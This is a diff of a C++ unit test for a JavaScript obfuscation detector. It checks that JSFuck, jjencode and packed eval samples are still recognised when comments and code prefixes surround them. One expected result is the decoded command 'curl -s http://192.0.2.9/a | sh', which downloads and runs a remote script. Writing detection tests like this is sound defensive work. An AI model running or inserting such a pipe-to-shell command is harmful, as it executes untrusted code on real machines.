@@ -137,9 +137,11 @@ TEST(Obfuscators, CommentsAndLineEndsHideNothing) {
   };
   const std::string fuck = Commented(kFetch);
   EXPECT_NE(facts(fuck).find("tool=jsfuck => fetch(1)"), std::string::npos) << facts(fuck);
-  const std::string jj = Commented(kJjencode);
-  EXPECT_NE(facts(jj).find("tool=jjencode"), std::string::npos) << facts(jj);
-  EXPECT_NE(facts(jj).find("command=curl -s http://192.0.2.9/a | sh"), std::string::npos);
+  for (const std::string_view before : {"", "var ", "let a = 1, "}) {
+    const std::string jj = Commented(std::string(before) + std::string(kJjencode));
+    EXPECT_NE(facts(jj).find("tool=jjencode"), std::string::npos) << facts(jj);
+    EXPECT_NE(facts(jj).find("command=curl -s http://192.0.2.9/a | sh"), std::string::npos);
+  }
   const std::string packed =
       "eval(/* a */function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b'"
       ",'g'),k[c]);return p}('0(1)',2,2,'fetch|1'.split('|'),0,{}))";
